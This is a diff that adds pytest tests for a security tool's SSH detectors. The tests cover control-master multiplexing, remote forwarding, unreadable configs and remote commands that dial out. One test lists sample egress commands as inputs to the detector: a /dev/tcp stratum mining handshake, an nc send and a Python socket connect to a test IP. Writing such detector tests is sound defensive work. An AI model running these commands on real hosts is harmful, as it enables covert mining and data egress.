@@ -15,6 +15,8 @@ from bastion.analysis.ssh import (
     client_identity,
     config_features,
     option_features,
+    remote_command,
+    remote_egress,
 )
 from bastion.events import Event, EventKind
 
@@ -101,3 +103,133 @@ def test_config_given_as_stdin_is_read_from_the_process(tmp_path: Path) -> None:
     finally:
         runner.kill()
         runner.wait()
+
+
+@pytest.mark.parametrize("argv,features", [
+    (["ssh", "-M", "-S", "/tmp/cm", "-f", "h", "sleep 40"], ["ssh_control_master"]),
+    (["ssh", "-fMN", "h"], ["ssh_control_master"]),
+    (["ssh", "-o", "ControlMaster=auto", "-o", "ControlPersist=60", "h"], ["ssh_control_master"]),
+    (["ssh", "-o", "controlmaster no", "-S", "/tmp/cm", "h", "true"], []),  # a mux client
+    (["ssh", "-S", "/tmp/cm", "h", "uptime"], []),
+    (["ssh", "-o", "EnableEscapeCommandline=yes", "-t", "h"], ["ssh_escape_commandline"]),
+])
+def test_a_multiplexing_master_is_a_forwarding_capability(argv: list[str],
+                                                          features: list[str]) -> None:
+    """A master's control socket takes forward requests from any process that reaches
+    it, later, with no exec and no connection to see: the master itself is judged."""
+    assert option_features(argv)[0] == features
+
+
+@pytest.mark.parametrize("argv,command", [
+    (["ssh", "h"], None),
+    (["ssh", "-p", "22", "h", "ls", "-R"], "ls -R"),
+    (["ssh", "h", "-R", "1:x:2", "uptime"], "uptime"),
+    (["ssh", "--", "h", "echo", "hi"], "echo hi"),
+])
+def test_remote_command_is_what_the_remote_shell_runs(argv: list[str],
+                                                      command: str | None) -> None:
+    assert remote_command(argv) == command
+
+
+def test_remote_commands_that_dial_out_are_told_from_ordinary_ones() -> None:
+    stratum = '{"id":1,"method":"mining.subscribe","params":[]}'
+    for dialing in [f"exec 3<>/dev/tcp/203.0.113.33/3333; printf '{stratum}\\n' >&3",
+                    "nc 203.0.113.33 3333 < /tmp/job",
+                    "python3 -c \"import socket; socket.create_connection(('203.0.113.33', 3333))\"",
+                    f"printf '{stratum}' | cat",
+                    "./worker -o stratum+tcp://203.0.113.33:3333"]:
+        assert remote_egress(dialing), dialing
+    for honest in ["uptime", "ls -la /srv && make -C /srv test", "git -C repo pull --ff-only",
+                   "cat /etc/os-release", "tail -n 50 /var/log/app.log"]:
+        assert remote_egress(honest) == [], honest
+
+
+def _wait_started(pid: int) -> None:
+    from tests.conftest import wait_for
+
+    assert wait_for(lambda: client_identity(pid) == "ssh", timeout=10)
+
+
+@pytest.mark.skipif(SSH is None, reason="openssh-client is not installed")
+def test_config_from_a_pipe_or_fifo_is_refused_not_skipped(tmp_path: Path) -> None:
+    """``cat cfg | ssh -F /dev/stdin``: the bytes in the pipe cannot be read without
+    taking them from ssh, so the config is unjudgeable: a verdict (fail closed). A FIFO
+    named with -F is the same, and judging it must not block."""
+    assert SSH is not None
+    runner = subprocess.Popen([SSH, "-F", "/dev/stdin", "-o", "ProxyCommand=sleep 30", "r"],
+                              stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
+                              stderr=subprocess.DEVNULL)
+    fifo = tmp_path / "fifo"
+    os.mkfifo(fifo)
+    try:
+        _wait_started(runner.pid)
+        for config in ("/dev/stdin", str(fifo)):
+            event = Event(kind=EventKind.EXEC, session_id="s", pid=runner.pid, fields={
+                "proc.name": "ssh", "proc.args": ["ssh", "-F", config, "r"], "proc.cwd": "/"})
+            found = SshExecDetector().observe(event)
+            assert found and "ssh_config_unreadable" in found[0].message, config
+    finally:
+        runner.kill()
+        runner.wait()
+
+
+@pytest.mark.skipif(SSH is None, reason="openssh-client is not installed")
+def test_include_written_after_exec_is_read_when_the_connection_arrives(tmp_path: Path) -> None:
+    """The Include target does not exist at exec (nothing to flag then); ssh reads its
+    config before it connects, so when its connection reaches the gateway the file is
+    there and is judged: the verdict lands on the connect the gateway waits on. The
+    connection's socket belongs to the ProxyCommand child here: its parent is judged."""
+    assert SSH is not None
+    config = tmp_path / "cfg"
+    late = tmp_path / "late.conf"
+    config.write_text(f"Host r\n  HostName 203.0.113.66\n  Include {late}\n")
+    runner = subprocess.Popen([SSH, "-F", str(config), "-o", "ProxyCommand=sleep 30", "r"],
+                              stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
+                              stderr=subprocess.DEVNULL)
+    try:
+        _wait_started(runner.pid)
+        exec_event = Event(kind=EventKind.EXEC, session_id="s", pid=runner.pid, fields={
+            "proc.name": "ssh", "proc.args": ["ssh", "-F", str(config), "r"],
+            "proc.cwd": str(tmp_path)})
+        detector = SshExecDetector()
+        assert detector.observe(exec_event) == []  # nothing to see yet
+        late.write_text("  RemoteForward 9000 localhost:22\n")
+        from tests.conftest import wait_for
+
+        assert wait_for(lambda: _children(runner.pid), timeout=10)
+        child = _children(runner.pid)[0]
+        connect = Event(kind=EventKind.NET_CONNECT, session_id="s", pid=child, fields={
+            "net.app": "ssh", "net.decision": "allow", "net.dst_ip": "203.0.113.66",
+            "net.dst_port": 22, "net.ssh_banner": "SSH-2.0-OpenSSH_9.2p1"})
+        found = detector.observe(connect)
+        assert found and found[0].rule_id == "tunnels.ssh_forward_exec"
+        assert "ssh_forward_remote" in found[0].message
+        assert found[0].evidence["connection"] == "203.0.113.66:22"
+        # a denied connection, or one that is not SSH, is not this detector's
+        assert detector.observe(Event(kind=EventKind.NET_CONNECT, session_id="s", pid=child,
+                                      fields={**connect.fields, "net.decision": "deny"})) == []
+    finally:
+        runner.kill()
+        runner.wait()
+
+
+def test_ssh_spoken_by_an_unknown_client_is_reported() -> None:
+    sleeper = subprocess.Popen(["sleep", "5"])
+    try:
+        found = SshExecDetector().observe(Event(
+            kind=EventKind.NET_CONNECT, session_id="s", pid=sleeper.pid, fields={
+                "net.app": "ssh", "net.decision": "allow", "net.dst_ip": "203.0.113.66",
+                "net.dst_port": 22}))
+        assert [(f.rule_id, f.severity.name) for f in found] == [
+            ("tunnels.ssh_unvetted_client", "MEDIUM")]
+    finally:
+        sleeper.kill()
+        sleeper.wait()
+
+
+def _children(pid: int) -> list[int]:
+    try:
+        text = Path(f"/proc/{pid}/task/{pid}/children").read_text()
+    except OSError:
+        return []
+    return [int(x) for x in text.split()]
